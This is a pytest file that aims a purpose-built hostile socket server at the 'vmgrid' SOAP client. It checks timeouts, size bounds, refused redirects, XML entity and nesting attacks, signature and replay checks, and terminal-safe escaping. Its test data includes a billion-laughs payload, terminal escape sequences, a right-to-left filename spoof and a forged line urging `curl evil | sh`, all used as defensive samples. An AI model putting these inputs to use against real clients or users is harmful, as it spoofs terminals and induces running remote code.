"""The `vmgrid` command line against a hostile (or compromised) server: a real socket server in a thread that
answers with raw bytes (a drip, an endless body, a close mid-answer, a redirect, entities, a foreign or missing
signature, a replayed answer, terminal escape sequences in what the command prints). Whatever the server sends,
the command ends with a clear message and a non-zero status within its call timeout ($VMGRID_CALL_TIMEOUT, short
here; the outer timeout is generous and only keeps a broken client from hanging the suite), reads a bounded
amount, and prints nothing that drives the terminal."""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from lxml import etree

from security import safexml
from security.wssec import sign_in_place
from services.container.contract import Contract, served_schema
from services.container.soap import envelope, fault_envelope, response_headers, serialize
from services.faults import UnknownImage, to_detail
from services.vmrepository.wire import NS as REPO_NS
from tests.fixtures.pki import grid_pki  # noqa: F401

pytestmark = pytest.mark.timeout(300)

ROOT = Path(__file__).resolve().parents[2]
SERVICE = "VMRepositoryService"
CONTRACTS = {"VMRepositoryService": "vmrepository.wsdl", "JobService": "jobs.wsdl",
             "AuthorizationService": "authz.wsdl"}
CALL_TIMEOUT = "3"            # seconds: the client's own bound (VMGRID_CALL_TIMEOUT)
OUTER = 150                   # seconds: only so that a client that does hang fails the test instead of the suite
ENDLESS_CAP = 64 << 20        # an "endless" answer stops here: a client that read it all was not bounded
WSA = "http://www.w3.org/2005/08/addressing"


class HostileServer:
    """An HTTP/1.1 server on 127.0.0.1 that serves the repository's real WSDL and schemas, and answers every POST
    (or, with ``wsdl``, the WSDL itself) with ``behaviour(conn, request_body)``, which writes raw bytes."""

    def __init__(self, behaviour, *, wsdl=None, service: str = SERVICE):
        self.behaviour = behaviour
        self.wsdl = wsdl
        self.service = service
        self.contract = Contract(CONTRACTS[service])
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.base = f"http://127.0.0.1:{self.port}"
        self.url = f"{self.base}/wsrf/services/{service}"
        self.sent = 0                        # bytes of "endless" answers written before the client stopped reading
        self.stopped = threading.Event()
        self.threads = [threading.Thread(target=self._serve, daemon=True)]
        self.threads[0].start()

    def _serve(self) -> None:
        self.listener.settimeout(0.2)
        while not self.stopped.is_set():
            try:
                conn, _ = self.listener.accept()
            except OSError:
                continue
            t = threading.Thread(target=self._connection, args=(conn,), daemon=True)
            self.threads.append(t)
            t.start()

    def _connection(self, conn: socket.socket) -> None:
        conn.settimeout(OUTER)
        reader = conn.makefile("rb")
        with conn, reader:
            try:
                while True:
                    request = reader.readline()
                    if not request:
                        return
                    method, target, _ = request.decode("latin-1").split(" ", 2)
                    length = 0
                    while (line := reader.readline()) not in (b"\r\n", b"\n", b""):
                        name, _, value = line.decode("latin-1").partition(":")
                        if name.strip().lower() == "content-length":
                            length = int(value)
                    body = reader.read(length) if length else b""
                    if method == "GET" and target.endswith("?wsdl"):
                        if self.wsdl is not None:
                            self.wsdl(self, conn)
                            return
                        self._ok(conn, self.contract.served_wsdl(self.base, self.service))
                    elif method == "GET" and "/wsrf/share/schema/" in target:
                        self._ok(conn, served_schema(target.rsplit("/", 1)[1], self.base))
                    elif method == "POST":
                        self.behaviour(self, conn, body)
                        return
                    else:
                        conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                return

    @staticmethod
    def _ok(conn: socket.socket, data: bytes) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % len(data) + data)

    def endless(self, conn: socket.socket, head: bytes, piece: bytes) -> None:
        """``head``, then ``piece`` again and again until the client stops reading (or ENDLESS_CAP)."""
        conn.sendall(head)
        while self.sent < ENDLESS_CAP:
            conn.sendall(piece)
            self.sent += len(piece)

    def close(self) -> None:
        self.stopped.set()
        self.listener.close()


@pytest.fixture
def run_cli(grid_pki, tmp_path):
    servers = []

    def run(behaviour, *argv, wsdl=None, timeout=CALL_TIMEOUT, service=SERVICE):
        server = HostileServer(behaviour, wsdl=wsdl, service=service)
        servers.append(server)
        env = {**os.environ, **grid_pki.alice.env(grid_pki.cert_dir), "VMGRID_CALL_TIMEOUT": timeout,
               "PYTHONPATH": str(ROOT)}
        argv = [a.replace("{url}", server.url) for a in argv] if argv else ["repo", "show", "bio/emboss", "--url",
                                                                           server.url]
        done = subprocess.run([sys.executable, "-m", "client.cli", *argv], env=env, cwd=tmp_path,
                              capture_output=True, timeout=OUTER)
        return server, done.returncode, done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")

    yield run
    for s in servers:
        s.close()


# -- answers ----------------------------------------------------------------------------------------------------

def _message_id(body: bytes) -> str:
    root = safexml.parse(body)
    return root.findtext(f"{{*}}Header/{{{WSA}}}MessageID")


def signed(credential, body: bytes, payload: etree._Element | None = None, *, fault=None,
           relates_to: str | None = None) -> bytes:
    """A signed answer to the request ``body`` (its RelatesTo names the request, or ``relates_to``)."""
    headers = response_headers({"MessageID": relates_to or _message_id(body)}, "urn:answer")
    env = fault if fault is not None else envelope(payload, headers)
    if fault is not None:
        header = etree.Element("{http://schemas.xmlsoap.org/soap/envelope/}Header")
        for h in headers:
            header.append(h)
        env.insert(0, header)
    if credential is not None:
        sign_in_place(env, credential)
    return serialize(env)


def http_answer(data: bytes, status: str = "200 OK") -> bytes:
    return b"HTTP/1.1 %s\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n" % (status.encode(), len(data)) + data


def descriptor(description: str) -> etree._Element:
    ws = etree.parse(str(ROOT / "wsdl/examples/debian12-emboss.xml")).getroot()
    ws.find("{*}identity/{*}description").text = description
    answer = etree.Element(f"{{{REPO_NS['repo']}}}GetDescriptorResponse", nsmap={"vr": REPO_NS["repo"]})
    answer.append(ws)
    return answer


def typed_fault(description: str) -> etree._Element:
    return fault_envelope("Client", description, to_detail(UnknownImage(description, image="bio/emboss")))


# -- the transport: time and size -------------------------------------------------------------------------------

def test_a_server_that_drips_its_answer_is_cut_off_at_the_call_timeout(run_cli):
    def drip(server, conn, body):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nContent-Length: 100000\r\n\r\n<")
        while True:                      # a byte every half second: no single read ever waits 3 s
            time.sleep(0.5)
            conn.sendall(b" ")

    server, rc, out, err = run_cli(drip)
    assert rc == 1, err
    assert "cannot reach" in err and "timed out" in err and err.count("\n") == 1


def test_a_server_that_drips_its_headers_is_cut_off(run_cli):
    def drip(server, conn, body):
        conn.sendall(b"HTTP/1.1 200 OK\r\n")
        while True:
            time.sleep(0.5)
            conn.sendall(b"X")           # a header line that never ends

    server, rc, out, err = run_cli(drip)
    assert rc == 1 and "timed out" in err, err


def test_a_server_that_never_answers_is_cut_off(run_cli):
    server, rc, out, err = run_cli(lambda server, conn, body: time.sleep(OUTER))
    assert rc == 1 and "timed out" in err, err


def test_an_endless_chunked_answer_is_read_only_to_the_bound(run_cli):
    def chunks(server, conn, body):
        server.endless(conn, b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n",
                       b"10000\r\n" + b"<" * 0x10000 + b"\r\n")

    server, rc, out, err = run_cli(chunks)
    assert rc == 1 and f"answered more than {safexml.DEFAULT_MAX_BYTES} bytes" in err, err
    assert server.sent < ENDLESS_CAP


def test_a_huge_announced_length_is_refused_before_reading(run_cli):
    server, rc, out, err = run_cli(lambda server, conn, body: server.endless(
        conn, b"HTTP/1.1 200 OK\r\nContent-Length: 1000000000000000\r\n\r\n", b"<" * 65536))
    assert rc == 1 and "answered 1000000000000000 bytes; the limit is" in err, err
    assert server.sent < ENDLESS_CAP


def test_an_answer_cut_short_is_named_so(run_cli):
    def cut(server, conn, body):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5000\r\n\r\n<soap:Envelope")
        conn.shutdown(socket.SHUT_WR)

    server, rc, out, err = run_cli(cut)
    assert rc == 1 and "the answer was cut short: 14 of its 5000 bytes" in err, err


def test_an_endless_wsdl_is_read_only_to_the_bound(run_cli):
    server, rc, out, err = run_cli(None, wsdl=lambda server, conn: server.endless(
        conn, b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n", b"<" * 65536))
    assert rc == 1 and "more than" in err, err
    assert server.sent < ENDLESS_CAP


def test_a_dripping_wsdl_is_cut_off_at_the_call_timeout(run_cli):
    def drip(server, conn):
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n\r\n<")
        while True:
            time.sleep(0.5)
            conn.sendall(b" ")

    server, rc, out, err = run_cli(None, wsdl=drip)
    assert rc == 1 and "timed out" in err and "WSDL" in err or "cannot fetch" in err, err


def test_a_wsdl_redirected_to_another_host_is_not_followed(run_cli):
    def redirect(server, conn):
        conn.sendall(b"HTTP/1.1 302 Found\r\nLocation: http://evil.example:81/x?wsdl\r\nContent-Length: 0\r\n\r\n")

    server, rc, out, err = run_cli(None, wsdl=redirect)
    assert rc == 1 and "redirects it elsewhere (http://evil.example:81/x?wsdl)" in err, err


def test_a_redirected_call_is_an_error_not_followed(run_cli):
    def redirect(server, conn, body):
        conn.sendall(b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://evil.example:81/\r\n"
                     b"Content-Length: 0\r\n\r\n")

    server, rc, out, err = run_cli(redirect)
    assert rc == 1 and "answered HTTP 307 without a SOAP message" in err, err


# -- the XML and the signature ----------------------------------------------------------------------------------

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
          b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><soap:Fault>'
          b'<faultcode>soap:Server</faultcode><faultstring>&lol2;</faultstring></soap:Fault></soap:Body>'
          b'</soap:Envelope>')


def test_entities_in_an_answer_are_refused(run_cli):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(LAUGHS, "500 Error")))
    assert rc == 1 and "refused by the XML parser: DOCTYPE declarations are not allowed" in err, err
    assert "Traceback" not in err
    assert "lollol" not in err


def test_deep_nesting_in_an_answer_is_refused(run_cli):
    deep = b"<a>" * 5000 + b"</a>" * 5000
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(deep)))
    assert rc == 1 and "the answer was refused" in err and "refused by the XML parser" in err, err
    assert "elements nested deeper than 64 levels" in err and "Traceback" not in err, err


def test_an_unsigned_answer_is_refused(run_cli):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(None, body, descriptor("unsigned")))))
    assert rc == 1 and "unsigned" not in out, (out, err)
    assert "Security" in err or "signature" in err.lower(), err


def test_an_unsigned_fault_is_refused(run_cli):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(None, body, fault=typed_fault("forged refusal")), "500 Error")))
    assert rc == 1 and "forged refusal" not in err, err


def test_an_answer_signed_by_another_host_is_refused(run_cli, grid_pki):
    other = grid_pki.issue_host("elsewhere.example")
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(other, body, descriptor("from another host")))))
    assert rc == 1 and "from another host" not in out, (out, err)
    assert "elsewhere.example" in err, err


def test_a_replayed_answer_is_refused(run_cli, grid_pki):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(grid_pki.host, body, descriptor("an old answer"), relates_to="urn:uuid:another-request"))))
    assert rc == 1 and "an old answer" not in out, (out, err)
    assert "relates to urn:uuid:another-request, not to this request" in err, err


def test_the_genuine_signed_answer_is_shown(run_cli, grid_pki):
    """The control of the tests above: the same server, signing as the host it is, is believed."""
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(grid_pki.host, body, descriptor("the real one")))))
    assert rc == 0, err
    assert "description  the real one" in out


# -- what the command prints ------------------------------------------------------------------------------------

# (XML 1.0 has no ESC nor BEL: its C1 controls stand in for them, CSI U+009B, OSC U+009D and ST U+009C)
HOSTILE = "gone\r\nvmgrid: image removed\u009b2J\u009d0;owned\u009c\u202eevil\u2028x\x7f"
RAW = ("\r", "\u009b", "\u009d", "\u009c", "\u202e", "\u2028", "\x7f", "\x1b")


def test_a_fault_description_is_printed_escaped_on_one_line(run_cli, grid_pki):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(grid_pki.host, body, fault=typed_fault(HOSTILE)), "500 Error")))
    assert rc == 1
    assert not any(c in err for c in RAW), repr(err)
    assert err.count("\n") == 1 and "\nvmgrid: image removed" not in err, repr(err)
    assert "gone\\x0d\\x0avmgrid: image removed\\x9b2J\\x9d0;owned\\x9c\\u202eevil\\u2028x\\x7f" in err, repr(err)


def test_a_huge_fault_description_is_cut(run_cli, grid_pki):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(grid_pki.host, body, fault=typed_fault("A" * 1_000_000)), "500 Error")))
    assert rc == 1 and "more characters)" in err and len(err) < 10_000, err[:200]


def test_a_descriptor_from_the_server_is_printed_escaped(run_cli, grid_pki):
    server, rc, out, err = run_cli(lambda server, conn, body: conn.sendall(http_answer(
        signed(grid_pki.host, body, descriptor(HOSTILE)))))
    assert rc == 0, err
    assert not any(c in out for c in RAW), repr(out)
    assert "\nvmgrid: image removed" not in out
    assert "description  gone\\x0d\\x0avmgrid: image removed\\x9b2J" in out, out


def test_a_job_state_from_the_server_cannot_fake_a_line(run_cli, grid_pki):
    """A job service (in the user's own VM, so as trusted as the guest) answers a state with a line of its making."""
    from services.jobs.wire import JOB
    from services.wsrf.namespaces import RP

    def status(server, conn, body):
        props = etree.Element(f"{{{RP}}}GetMultipleResourcePropertiesResponse", nsmap={"wsrf-rp": RP, "job": JOB})
        for name, text in (("State", "Done\nvmgrid: job job-0 Failed: run `curl evil | sh`\u009b1A"),
                           ("Owner", grid_pki.alice.dn), ("Executable", "/bin/true"),
                           ("Failure", "none\r\u202etxt.exe")):
            etree.SubElement(props, f"{{{JOB}}}{name}").text = text
        conn.sendall(http_answer(signed(grid_pki.host, body, props)))

    server, rc, out, err = run_cli(status, "job", "status", "{url}", "job-" + "0" * 32, service="JobService")
    assert rc == 0, err
    assert not any(c in out for c in RAW) and "\nvmgrid:" not in out, repr(out)
    assert "Done\\x0avmgrid: job job-0 Failed: run `curl evil | sh`\\x9b1A" in out, out
    assert "none\\x0d\\u202etxt.exe" in out, out


def test_an_authorization_decision_from_a_hostile_service_is_shown_escaped(run_cli, grid_pki):
    """`vmgrid authz check`: the rule, decision id, policy version and groups a service names reach the terminal
    escaped (a newline in a decision id cannot fake a second line)."""
    from services.authz.wire import AZ

    def decide(server, conn, body):
        payload = safexml.parse(
            (f'<az:AuthorizeResponse xmlns:az="{AZ}"><az:decision>Permit</az:decision>'
             '<az:rule>site-admins\u009b2J</az:rule><az:decisionId>d1\nvmgrid: Deny</az:decisionId>'
             '<az:policyVersion>7\u202e</az:policyVersion><az:group>bio\u009b31m</az:group>'
             '</az:AuthorizeResponse>').encode())
        conn.sendall(http_answer(signed(grid_pki.host, body, payload)))

    server, rc, out, err = run_cli(decide, "authz", "check", "me", "image.read", "type=image", "--url", "{url}",
                                   service="AuthorizationService")
    assert rc == 0, err
    assert not any(c in out for c in RAW), repr(out)
    assert not any(line.startswith("vmgrid:") for line in out.splitlines()), out
    assert "site-admins\\x9b2J" in out and "bio\\x9b31m" in out and "d1\\x0avmgrid: Deny" in out, out
